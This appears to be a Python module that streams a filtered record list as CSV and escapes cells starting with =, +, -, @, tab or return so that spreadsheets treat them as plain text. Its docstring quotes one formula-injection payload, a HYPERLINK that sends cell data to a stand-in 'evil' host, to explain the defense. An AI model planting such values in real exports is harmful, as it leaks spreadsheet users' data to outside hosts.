"""CSV export of a filtered record list, safe to open in a spreadsheet.

The rows are exactly those the list shows for the same filters (the same
``list_records`` query), page by page through the keyset cursor, so an
export of a large list holds one page in memory at a time.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and some a tab or carriage return) as a formula: a record value such as
``=HYPERLINK("http://evil/?"&A1)`` would leak data or worse when someone
opens the export. Every text cell starting with one of those characters is
prefixed with a single quote, which makes it plain text. Numbers stored as
numbers are written as they are: ``-5`` is a value, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from sqlalchemy import Connection

from labledger.db.engine import Database
from labledger.identity.principal import Principal
from labledger.metadata.model import TypeModel
from labledger.metadata.spec.fields import FieldSpec, ReferenceField
from labledger.metadata.types import readable_model
from labledger.records.query import ListQuery, list_records
from labledger.records.related import record_summaries

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAGE = 500
_BASE_COLUMNS = (("number", "Number"), ("title", "Title"), ("state", "State"))


def safe_cell(text: str) -> str:
    """Text that no spreadsheet will evaluate as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(spec: FieldSpec, value: Any, numbers: dict[int, str]) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(spec, ReferenceField) and isinstance(value, int):
        return safe_cell(numbers.get(value, str(value)))
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, list):
        return safe_cell("; ".join(str(v) for v in value))
    return safe_cell(str(value))


def _line(cells: list[str]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
    return buffer.getvalue()


def export_columns(model: TypeModel) -> list[tuple[str, str]]:
    """(key, header) of each column: number, title, state, then every field."""
    return [*_BASE_COLUMNS, *((key, spec.label) for key, spec in model.field_specs.items())]


def _page(
    conn: Connection, actor: Principal, model: TypeModel, query: ListQuery
) -> tuple[list[str], str | None]:
    """The CSV lines of one page of the list and the cursor of the next page."""
    result = list_records(conn, model, query, actor=actor, max_limit=PAGE)
    references = [k for k, f in model.field_specs.items() if isinstance(f, ReferenceField)]
    targets = [item["data"].get(k) for item in result["items"] for k in references]
    numbers = {i: s["number"] for i, s in record_summaries(conn, actor, targets).items()}
    lines = []
    for item in result["items"]:
        cells = [safe_cell(str(item[key] or "")) for key, _ in _BASE_COLUMNS]
        cells += [_cell(f, item["data"].get(k), numbers) for k, f in model.field_specs.items()]
        lines.append(_line(cells))
    return lines, result["next"]


def csv_export(db: Database, actor: Principal, type_key: str, query: ListQuery) -> Iterator[str]:
    """The CSV text of every record the list query matches, a header line first.

    The first page is read at once, so a bad filter raises ValidationFailed
    before any line is sent; each later page is read in its own short
    transaction, so a long export never holds one open. References are
    written as the target's number where the person may read it.
    """
    page = replace(query, cursor=None, limit=PAGE)
    with db.read() as conn:
        model = readable_model(conn, actor, type_key)
        first, cursor = _page(conn, actor, model, page)
    header = _line([safe_cell(h) for _, h in export_columns(model)])
    return _lines(db, actor, model, page, [header, *first], cursor)


def _lines(
    db: Database,
    actor: Principal,
    model: TypeModel,
    page: ListQuery,
    lines: list[str],
    cursor: str | None,
) -> Iterator[str]:
    yield from lines
    while cursor is not None:
        with db.read() as conn:
            lines, cursor = _page(conn, actor, model, replace(page, cursor=cursor))
        yield from lines
